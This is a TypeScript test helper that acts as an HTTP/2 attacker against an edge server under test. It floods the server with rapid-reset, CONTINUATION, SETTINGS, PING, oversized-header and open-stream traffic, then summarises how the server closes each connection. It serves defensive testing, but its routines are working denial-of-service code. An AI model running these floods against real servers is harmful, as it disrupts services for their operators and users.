/**
 * An HTTP/2 attacker for the edge's tests, as a process of its own (its CPU is not the edge's event loop):
 * `node --import tsx test/helpers/h2attack.ts <kind> <port> <authority> <ms>` prints `ready`, and once a line comes on
 * stdin repeats one attack on fresh
 * connections for `ms`, one connection at a time, and prints a JSON summary: connections made, frames sent, how each
 * connection ended (GOAWAY error codes seen, or closed without one).
 *
 * kinds: rapid-reset (HEADERS then RST_STREAM, again and again), continuation (a HEADERS frame without END_HEADERS
 * and endless CONTINUATION frames), settings (SETTINGS frames), ping (PING frames), big-headers (a 64 KiB header
 * list), streams (HEADERS of streams left open, beyond the connection's cap).
 */
import { FLAG, FRAME, frame, getHeaders, headerBlock, rawH2, type RawH2 } from './h2.js';

export type AttackKind = 'rapid-reset' | 'continuation' | 'settings' | 'ping' | 'big-headers' | 'streams';

export interface AttackSummary {
  kind: AttackKind;
  connections: number;
  frames: number;
  /** GOAWAY error code (as a string) or "closed" -> connections that ended so. */
  endings: Record<string, number>;
  /** Streams refused with RST_STREAM, by error code. */
  resets: Record<string, number>;
}

const BATCH = 50;

/** One connection's attack until the edge ends it (or `deadline`); frames sent. */
async function attackOnce(kind: AttackKind, raw: RawH2, authority: string, deadline: number): Promise<number> {
  let sent = 0;
  let id = 1;
  const send = (...frames: Buffer[]) => {
    sent += frames.length;
    return raw.send(...frames);
  };
  const drained = () =>
    new Promise<void>((resolve) => {
      if (!raw.socket.writableNeedDrain || raw.socket.destroyed) return void setImmediate(resolve);
      raw.socket.once('drain', () => resolve());
      void raw.closed.then(() => resolve());
    });
  let open = true;
  void raw.closed.then(() => (open = false));
  if (kind === 'continuation') {
    send(
      frame(
        FRAME.HEADERS,
        0,
        1,
        headerBlock([
          [':method', 'GET'],
          [':scheme', 'https'],
          [':path', '/'],
          [':authority', authority],
        ]),
      ),
    );
  }
  if (kind === 'big-headers') {
    const block = headerBlock([
      [':method', 'GET'],
      [':scheme', 'https'],
      [':path', '/'],
      [':authority', authority],
      ['x-big', 'b'.repeat(64 * 1024)],
    ]);
    // one HEADERS and CONTINUATION frames of at most 16 KiB (the default SETTINGS_MAX_FRAME_SIZE)
    const pieces = [];
    for (let at = 0; at < block.length; at += 16384) pieces.push(block.subarray(at, at + 16384));
    pieces.forEach((piece, i) =>
      send(frame(i === 0 ? FRAME.HEADERS : FRAME.CONTINUATION, (i === pieces.length - 1 ? FLAG.END_HEADERS : 0) | (i === 0 ? FLAG.END_STREAM : 0), 1, piece)),
    );
  }
  while (open && Date.now() < deadline) {
    const batch: Buffer[] = [];
    for (let i = 0; i < BATCH; i++) {
      if (kind === 'rapid-reset') {
        batch.push(getHeaders(id, authority, [], FLAG.END_HEADERS | FLAG.END_STREAM), frame(FRAME.RST_STREAM, 0, id, Buffer.from([0, 0, 0, 8])));
        id += 2;
      } else if (kind === 'continuation') batch.push(frame(FRAME.CONTINUATION, 0, 1, headerBlock([['x-a', 'b']])));
      else if (kind === 'settings') batch.push(frame(FRAME.SETTINGS, 0, 0));
      else if (kind === 'ping') batch.push(frame(FRAME.PING, 0, 0, Buffer.alloc(8, i)));
      else if (kind === 'streams') {
        batch.push(getHeaders(id, authority, [], FLAG.END_HEADERS | FLAG.END_STREAM, '/hold'));
        id += 2;
      }
    }
    if (kind === 'big-headers') {
      // a new big request every round
      const block = headerBlock([
        [':method', 'GET'],
        [':scheme', 'https'],
        [':path', '/'],
        [':authority', authority],
        ['x-big', 'b'.repeat(64 * 1024)],
      ]);
      id += 2;
      for (let at = 0, first = true; at < block.length; at += 16384, first = false) {
        batch.push(
          frame(
            first ? FRAME.HEADERS : FRAME.CONTINUATION,
            (at + 16384 >= block.length ? FLAG.END_HEADERS : 0) | (first ? FLAG.END_STREAM : 0),
            id,
            block.subarray(at, at + 16384),
          ),
        );
      }
    }
    send(...batch);
    await drained();
  }
  return sent;
}

export async function attack(kind: AttackKind, port: number, authority: string, ms: number): Promise<AttackSummary> {
  const summary: AttackSummary = { kind, connections: 0, frames: 0, endings: {}, resets: {} };
  const deadline = Date.now() + ms;
  while (Date.now() < deadline) {
    let raw: RawH2;
    try {
      raw = await rawH2(port, authority);
    } catch {
      summary.endings.refused = (summary.endings.refused ?? 0) + 1;
      // as a client would: a moment before trying again
      await new Promise((r) => setTimeout(r, 20));
      continue;
    }
    summary.connections++;
    summary.frames += await attackOnce(kind, raw, authority, deadline);
    if (!raw.socket.destroyed) raw.socket.destroy();
    await raw.closed;
    const goaway = raw.frames.find((f) => f.type === FRAME.GOAWAY);
    const ending = goaway ? String(goaway.payload.readUInt32BE(4)) : Date.now() >= deadline ? 'deadline' : 'closed';
    summary.endings[ending] = (summary.endings[ending] ?? 0) + 1;
    for (const f of raw.frames)
      if (f.type === FRAME.RST_STREAM) summary.resets[String(f.payload.readUInt32BE(0))] = (summary.resets[String(f.payload.readUInt32BE(0))] ?? 0) + 1;
  }
  return summary;
}

if (/h2attack\.[jt]s$/.test(process.argv[1] ?? '')) {
  const [kind, port, authority, ms] = process.argv.slice(2);
  // loaded (tsx's start costs CPU too): the test measures from the moment it says go
  process.stdout.write('ready\n');
  await new Promise((resolve) => process.stdin.once('data', resolve));
  const summary = await attack(kind as AttackKind, Number(port), authority, Number(ms));
  process.stdout.write(JSON.stringify(summary) + '\n');
  process.exit(0);
}
